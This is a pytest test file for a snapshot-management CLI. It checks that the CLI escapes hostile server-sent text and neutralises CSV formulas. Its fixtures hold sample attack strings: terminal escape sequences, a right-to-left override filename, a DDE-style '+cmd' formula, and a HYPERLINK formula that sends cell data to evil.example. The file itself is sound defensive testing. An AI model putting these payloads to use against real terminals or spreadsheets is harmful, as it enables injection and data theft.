"""The command line against hostile input and hostile environments (issue 19 item 13) and its pacing option
(issue 17 item 4): closed or full stdout, numeric options checked before anything is listed or asked, ids refused
up front, server-sent text escaped in table cells and on stderr, csv cells neutralised (OWASP), ``--raw``, and
``--requests-per-minute`` / ``$GRADIENTAI_RS_REQUESTS_PER_MINUTE``.

The behaviour tests fail on main's single-module CLI (``gradientai_rs/_cli.py``, checked by running them against
it); ``test_the_cli_limits_are_the_core_limits`` and ``test_the_longest_allowed_id_is_sent`` pin the bounds, so a
change of a core limit fails here instead of drifting.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Dict, Iterator, List, Optional

import pytest

from gradientai_rs import GradientAI, RetentionPolicy
from gradientai_rs.__main__ import main
from gradientai_rs.cli import _vocab
from gradientai_rs.cli._common import RPM_ENV, client
from gradientai_rs.cli._options import MAX_ID_CHARS
from gradientai_rs.cli._output import escape, neutralise_csv
from gradientai_rs.cli._parser import build_parser, parse_args
from gradientai_rs.testing import FakeDigitalOcean, generate_snapshots

TOKEN = "fake-token"
ROOT = Path(__file__).resolve().parents[1]
ENV_VARS = (
    "DIGITALOCEAN_ACCESS_TOKEN",
    "GRADIENTAI_API_KEY",
    "GRADIENT_BASE_URL",
    "GRADIENT_AI_BASE_URL",
    "GRADIENTAI_RS_LOG",
    RPM_ENV,
)

# Server-sent text an attacker controls: an OSC 8 hyperlink, a screen clear, a carriage return that rewrites the
# line, a forged second line, a right-to-left override ("Trojan Source"), a C1 CSI, NUL, DEL.
ESC_NAME = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\\x1b[2J"
CR_NAME = "harmless\rdeleted everything"
LF_NAME = "web-1\nerror: forged line"
BIDI_NAME = "invoice-\u202egpj.exe"
C1_NAME = "c1-\x9b31m-\x00-\x7f"
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"help")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


@pytest.fixture(autouse=True)
def _env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ENV_VARS:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DIGITALOCEAN_ACCESS_TOKEN", TOKEN)


def hostile_snapshots() -> List[Dict[str, Any]]:
    snaps = generate_snapshots(12, seed=3)
    for snap, name in zip(snaps, [ESC_NAME, CR_NAME, LF_NAME, BIDI_NAME, C1_NAME] + FORMULAS + ["\tindented"]):
        snap["name"] = name
    snaps[0]["tags"] = [FORMULAS[0], "ok"]
    snaps[1]["tags"] = ["\x1b[31mred"]
    return snaps


@pytest.fixture
def fake() -> Iterator[FakeDigitalOcean]:
    with FakeDigitalOcean(hostile_snapshots(), token=TOKEN) as f:
        yield f


@pytest.fixture
def plain_fake() -> Iterator[FakeDigitalOcean]:
    with FakeDigitalOcean(30, seed=8, token=TOKEN) as f:
        yield f


def cli(fake: FakeDigitalOcean, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(["--base-url", fake.url, *argv])
    out, err = capsys.readouterr()
    return code, out, err


def proc_env(**extra: str) -> Dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ENV_VARS}
    env["DIGITALOCEAN_ACCESS_TOKEN"] = TOKEN
    env["PYTHONPATH"] = str(ROOT / "python") + os.pathsep + env.get("PYTHONPATH", "")
    env.update(extra)
    return env


def shell(script: str, timeout: float = 60, **env: str) -> subprocess.CompletedProcess:
    """Runs ``script`` in bash, with ``$PY`` the CLI (``python -m gradientai_rs``)."""
    return subprocess.run(
        ["bash", "-c", script],
        env={**proc_env(**env), "PY": f"{sys.executable} -m gradientai_rs"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def one_error_line(err: str) -> str:
    assert "Traceback" not in err and "Exception ignored" not in err, err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    return lines[0]


def no_raw_controls(text: str) -> None:
    """Nothing a terminal would obey: no control character but the line ends, no bidi control."""
    bad = [c for c in text if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c in "\u202e\u2066\u200f")]
    assert bad == [], bad[:5]


# --------------------------------------------------------------------------------------------- stdout closed or full


def test_closed_stdout_is_one_error_line_and_deletes_nothing(plain_fake):
    sid = plain_fake.ids()[0]
    p = shell(f"$PY --base-url {plain_fake.url} snapshots delete {sid} --force >&-")
    assert p.returncode == 1
    line = one_error_line(p.stderr)
    assert "stdout is closed" in line and "AttributeError" not in line
    assert sid in plain_fake.ids() and plain_fake.request_count == 0  # refused before anything was sent


@pytest.mark.parametrize(
    "argv", [["snapshots", "list"], ["snapshots", "list", "--all", "-o", "json"], ["snapshots", "cost"], ["demo"]]
)
def test_closed_stdout_every_command(plain_fake, argv):
    p = shell(f"$PY --base-url {plain_fake.url} {' '.join(argv)} >&-")
    assert p.returncode == 1
    assert "stdout is closed" in one_error_line(p.stderr)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_full_disk_is_one_error_line():
    with FakeDigitalOcean(2000, seed=2, token=TOKEN) as fake:  # more than a buffer's worth: writes fail mid-way
        p = shell(f"$PY --base-url {fake.url} snapshots list --all -o jsonl > /dev/full")
        small = shell(f"$PY --base-url {fake.url} snapshots list --per-page 1 > /dev/full")  # fails at the flush
    for run in (p, small):
        assert run.returncode == 1
        assert "No space left on device" in one_error_line(run.stderr)


def test_closed_stderr_still_exits_with_the_code(plain_fake):
    p = shell(f"$PY --base-url {plain_fake.url} snapshots get nope 2>&-; echo status=$?")
    assert p.stdout.strip() == "status=3"


# --------------------------------------------------------------------------------------------- checked at parse time


@pytest.mark.parametrize(
    "argv, option",
    [
        (["snapshots", "prune", "--keep-last", "1", "--max-concurrency", "0", "--apply", "--yes"], "--max-concurrency"),
        (["snapshots", "prune", "--keep-last", "1", "--max-concurrency", "257"], "--max-concurrency"),
        (["snapshots", "prune", "--keep-last", "-1"], "--keep-last"),
        (["snapshots", "prune", "--keep-daily", str(2**32)], "--keep-daily"),
        (["snapshots", "prune", "--keep-weekly", "1.5"], "--keep-weekly"),
        (["snapshots", "list", "--per-page", "0"], "--per-page"),
        (["snapshots", "list", "--per-page", "201"], "--per-page"),
        (["snapshots", "list", "--page", "0"], "--page"),
        (["snapshots", "list", "--page", str(2**63)], "--page"),
        (["--timeout", "0", "snapshots", "list"], "--timeout"),
        (["--timeout", "nan", "snapshots", "list"], "--timeout"),
        (["--timeout", "inf", "snapshots", "list"], "--timeout"),
        (["--timeout", "1e30", "snapshots", "list"], "--timeout"),
        (["--max-retries", "-1", "snapshots", "list"], "--max-retries"),
        (["--max-retries", str(2**32), "snapshots", "list"], "--max-retries"),
        (["--requests-per-minute", "-1", "snapshots", "list"], "--requests-per-minute"),
        (["--requests-per-minute", str(2**64), "snapshots", "list"], "--requests-per-minute"),
        (["snapshots", "cost", "--rate", "-0.5"], "--rate"),
        (["snapshots", "cost", "--rate", "nan"], "--rate"),
        (["demo", "--snapshots", "10000000000"], "--snapshots"),
    ],
)
def test_numeric_options_are_checked_before_anything_is_listed(plain_fake, capsys, monkeypatch, argv, option):
    monkeypatch.setattr(sys, "stdin", _TTY("y\n"))  # would answer yes, if it were asked
    code, out, err = cli(plain_fake, capsys, *argv)
    assert code == 2 and out == ""
    line = one_error_line(err)
    assert option in line and "must be" in line
    assert "[y/N]" not in err and "plan:" not in err
    assert plain_fake.request_count == 0 and plain_fake.deleted_ids == []


class _TTY(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_prune_max_concurrency_zero_prints_no_plan_and_asks_nothing(plain_fake, capsys, monkeypatch):
    """The issue's example: before, the plan was printed (and on a terminal, [y/N] asked) before the refusal."""
    monkeypatch.setattr(sys, "stdin", _TTY("y\n"))
    code, out, err = cli(
        plain_fake, capsys, "snapshots", "prune", "--keep-last", "1", "--apply", "--max-concurrency", "0"
    )
    assert (code, out) == (2, "")
    assert "between 1 and 256" in one_error_line(err)
    assert plain_fake.request_count == 0


def test_the_cli_limits_are_the_core_limits(plain_fake):
    """Each parse-time bound is where the core's own check is: the bound passes the core, one more is refused."""
    c = GradientAI(api_key=TOKEN, base_url=plain_fake.url)
    snaps = c.gpu_droplets.snapshots
    assert len(snaps.list(per_page=_vocab.MAX_PER_PAGE).snapshots or []) == 30
    with pytest.raises(ValueError, match="per_page"):
        snaps.list(per_page=_vocab.MAX_PER_PAGE + 1)
    snaps.delete_many([], max_concurrency=_vocab.MAX_CONCURRENCY)
    with pytest.raises(ValueError, match="max_concurrency"):
        snaps.delete_many([], max_concurrency=_vocab.MAX_CONCURRENCY + 1)
    assert GradientAI(api_key=TOKEN, requests_per_minute=_vocab.MAX_COUNT).requests_per_minute == _vocab.MAX_COUNT
    with pytest.raises(ValueError, match="requests_per_minute"):
        GradientAI(api_key=TOKEN, requests_per_minute=_vocab.MAX_COUNT + 1)
    assert GradientAI(api_key=TOKEN, max_retries=_vocab.MAX_COUNT).max_retries == _vocab.MAX_COUNT
    with pytest.raises(ValueError, match="max_retries"):
        GradientAI(api_key=TOKEN, max_retries=_vocab.MAX_COUNT + 1)
    assert GradientAI(api_key=TOKEN, timeout=_vocab.MAX_TIMEOUT_SECS).timeout == _vocab.MAX_TIMEOUT_SECS
    with pytest.raises(ValueError, match="timeout"):
        GradientAI(api_key=TOKEN, timeout=_vocab.MAX_TIMEOUT_SECS * 1.01)
    RetentionPolicy(keep_last=_vocab.MAX_COUNT)
    with pytest.raises(ValueError, match="keep_last"):
        RetentionPolicy(keep_last=_vocab.MAX_COUNT + 1)
    c.close()
    assert plain_fake.deleted_ids == []


# --------------------------------------------------------------------------------------------- ids


@pytest.mark.parametrize("action", [["get"], ["delete", "--force"]])
def test_a_100_kb_id_is_an_invalid_id_not_a_connection_error(plain_fake, capsys, action):
    huge = "9" * 100_000
    code, out, err = cli(plain_fake, capsys, "snapshots", action[0], huge, *action[1:])
    assert (code, out) == (2, "")
    line = one_error_line(err)
    assert "invalid snapshot ID" in line and f"at most {MAX_ID_CHARS}" in line
    assert len(err) < 400 and huge not in err  # not echoed
    assert plain_fake.request_count == 0


@pytest.mark.parametrize("sid", ["\x1b[2J", "12 34", "12\n", "..", ".", "a\u202eb", "x" * (MAX_ID_CHARS + 1)])
def test_ids_a_server_cannot_have_are_refused_up_front(plain_fake, capsys, sid):
    code, out, err = cli(plain_fake, capsys, "snapshots", "delete", sid, "--force")
    assert (code, out) == (2, "")
    line = one_error_line(err)
    assert "invalid snapshot ID" in line
    no_raw_controls(err)
    assert plain_fake.request_count == 0


def test_the_longest_allowed_id_is_sent(plain_fake, capsys):
    code, _, err = cli(plain_fake, capsys, "snapshots", "get", "7" * MAX_ID_CHARS)
    assert code == 3 and "404" in err and plain_fake.request_count == 1


# --------------------------------------------------------------------------------------------- escaping


def test_escape_rules():
    for code in list(range(0x20)) + list(range(0x7F, 0xA0)) + [0x061C, 0x200E, 0x200F, 0x2028, 0x2029]:
        assert escape(f"a{chr(code)}b") != f"a{chr(code)}b", hex(code)
    for code in list(range(0x202A, 0x202F)) + list(range(0x2066, 0x206A)):
        assert escape(chr(code)) == f"\\u{code:04x}"
    assert escape("\x1b[31m\r\n\t\x00\x9b") == "\\x1b[31m\\r\\n\\t\\x00\\x9b"
    for text in ("plain", "é ü ß", "中文", "snapshot 🚀", "back\\slash", ""):
        assert escape(text) == text
    for cell in FORMULAS + ["\tx", "\rx"]:
        assert neutralise_csv(cell) == "'" + cell
    for cell in ("web-1", "a=b", "", "1.5", " =x"):
        assert neutralise_csv(cell) == cell


def test_table_escapes_server_text(fake, capsys):
    code, out, err = cli(fake, capsys, "snapshots", "list", "--columns", "id,name,tags")
    assert code == 0 and err == ""
    no_raw_controls(out)
    lines = out.splitlines()
    assert len(lines) == 1 + 12  # the forged line did not become a row
    assert "\\x1b]8;;https://evil.example/\\x1b\\click me" in out
    assert "harmless\\rdeleted everything" in out and "web-1\\nerror: forged line" in out
    assert "invoice-\\u202egpj.exe" in out and "c1-\\x9b31m-\\x00-\\x7f" in out
    assert "\\x1b[31mred" in out
    # the columns stay aligned: every row's tags start where the header's do
    start = lines[0].index("Tags")
    assert all(line[start - 3 : start] == "   " for line in lines[1:] if len(line) > start)


def test_raw_keeps_the_bytes(fake, capsys):
    code, out, _ = cli(fake, capsys, "snapshots", "list", "--columns", "name", "--no-header", "--raw")
    assert code == 0
    assert ESC_NAME in out and CR_NAME in out and BIDI_NAME in out and LF_NAME in out
    code, out, _ = cli(fake, capsys, "snapshots", "list", "-o", "csv", "--columns", "name", "--raw")
    assert [r[0] for r in csv.reader(io.StringIO(out, newline=""))][1:] == [s["name"] for s in fake.snapshots]


def test_csv_neutralises_formulas(fake, capsys):
    code, out, err = cli(fake, capsys, "snapshots", "list", "-o", "csv")
    assert code == 0 and err == ""
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == 12  # a CR or LF in a name did not start a row
    by_id = {r["id"]: r for r in rows}
    for snap in fake.snapshots:
        row = by_id[snap["id"]]
        name = snap["name"]
        assert row["name"] == ("'" + name if name[:1] in ("=", "+", "-", "@", "\t", "\r") else name)
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
        tags = ",".join(snap["tags"] or [])
        assert row["tags"] == ("'" + tags if tags.startswith("=") else tags)
        assert float(row["size_gigabytes"]) == snap["size_gigabytes"]  # numbers stay numbers
    assert by_id[fake.snapshots[5]["id"]]["name"] == "'" + FORMULAS[0]


def test_json_is_exact_and_escaped_by_json(fake, capsys):
    for raw in ([], ["--raw"]):
        code, out, _ = cli(fake, capsys, "snapshots", "list", "-o", "json", *raw)
        assert code == 0 and json.loads(out) == fake.snapshots
        no_raw_controls(out)
        code, out, _ = cli(fake, capsys, "snapshots", "list", "-o", "jsonl", *raw)
        assert [json.loads(line) for line in out.splitlines()] == fake.snapshots


def test_cost_and_prune_tables_escape_groups_and_names(fake, capsys):
    code, out, _ = cli(fake, capsys, "snapshots", "cost", "--by", "tag")
    assert code == 0
    no_raw_controls(out)
    assert "\\x1b[31mred" in out
    code, out, _ = cli(fake, capsys, "snapshots", "cost", "--by", "tag", "-o", "csv")
    groups = [r["group"] for r in csv.DictReader(io.StringIO(out, newline=""))]
    assert "'" + FORMULAS[0] in groups and FORMULAS[0] not in groups
    code, out, _ = cli(fake, capsys, "snapshots", "prune", "--keep-last", "1", "--columns", "name")
    assert code == 0
    no_raw_controls(out)
    assert len(out.splitlines()) == 13


def test_server_error_text_is_escaped_on_stderr(fake, capsys):
    fake.enqueue(500, body={"id": "x", "message": "\x1b[2J\x1b[1;1Hboom\r\nerror: forged\u202e", "request_id": "r"})
    code, out, err = cli(fake, capsys, "--max-retries", "0", "snapshots", "list")
    assert code == 3 and out == ""
    line = one_error_line(err)
    no_raw_controls(err)
    assert "\\x1b[2J\\x1b[1;1Hboom\\r\\nerror: forged\\u202e" in line


def test_prune_failure_lines_are_escaped(fake, capsys):
    fake.configure(delete_failures={fake.snapshots[0]["id"]: 500})
    code, out, err = cli(
        fake,
        capsys,
        "--max-retries",
        "0",
        "snapshots",
        "prune",
        "--keep-last",
        "1",
        "--group-by",
        "none",
        "--apply",
        "--yes",
    )
    assert code == 3
    no_raw_controls(err)


# --------------------------------------------------------------------------------------------- --requests-per-minute


def _client_of(argv: List[str]) -> Optional[int]:
    args = parse_args(build_parser(), argv)
    with client(args) as c:
        return c.requests_per_minute


def test_requests_per_minute_reaches_the_client(monkeypatch):
    assert _client_of(["snapshots", "list"]) == 250  # the client's default
    assert _client_of(["--requests-per-minute", "0", "snapshots", "list"]) is None  # pacing off
    assert _client_of(["--requests-per-minute", "17", "snapshots", "list"]) == 17
    assert _client_of(["snapshots", "list", "--requests-per-minute", "18"]) == 18  # after the command too
    monkeypatch.setenv(RPM_ENV, "90")
    assert _client_of(["snapshots", "list"]) == 90
    assert _client_of(["--requests-per-minute", "5", "snapshots", "list"]) == 5  # the option wins
    monkeypatch.setenv(RPM_ENV, "0")
    assert _client_of(["snapshots", "list"]) is None


@pytest.mark.parametrize("value", ["-1", "many", "1.5", str(2**40)])
def test_a_bad_environment_value_is_a_usage_error(plain_fake, capsys, monkeypatch, value):
    monkeypatch.setenv(RPM_ENV, value)
    code, out, err = cli(plain_fake, capsys, "snapshots", "list")
    assert (code, out) == (2, "")
    assert RPM_ENV in one_error_line(err)
    assert plain_fake.request_count == 0


def test_help_names_the_option_and_the_variable(capsys):
    assert main(["--help"]) == 0
    out = capsys.readouterr().out
    assert "--requests-per-minute" in out and RPM_ENV in out and "0 turns pacing off" in out
    assert main(["snapshots", "list", "--help"]) == 0
    assert "--raw" in capsys.readouterr().out


def test_prune_apply_of_many_snapshots_is_not_paced_with_zero():
    """300 snapshots: 2 listing requests and 299 deletes, more than the default 250 a minute (which would hold the
    last ones for most of a minute); with --requests-per-minute 0 it runs at the fake's speed."""
    with FakeDigitalOcean(300, seed=4, token=TOKEN) as fake:
        start = time.monotonic()
        p = shell(
            f"$PY --base-url {fake.url} --requests-per-minute 0 snapshots prune --keep-last 1 --group-by none "
            "--apply --yes --max-concurrency 16"
        )
        elapsed = time.monotonic() - start
        deleted = len(fake.deleted_ids)
    assert p.returncode == 0, p.stderr
    assert "Deleted 299 snapshots; 0 already gone; 0 failed; 0 not attempted." in p.stdout
    assert deleted == 299
    assert elapsed < 30, elapsed  # paced at 250/min, the last 51 requests wait until the minute is over


def test_prune_apply_from_the_environment_is_not_paced():
    with FakeDigitalOcean(260, seed=5, token=TOKEN) as fake:
        start = time.monotonic()
        p = shell(
            f"$PY --base-url {fake.url} snapshots prune --keep-last 1 --group-by none --apply --yes",
            **{RPM_ENV: "0"},
        )
        elapsed = time.monotonic() - start
    assert p.returncode == 0, p.stderr
    assert "Deleted 259 snapshots" in p.stdout and elapsed < 30
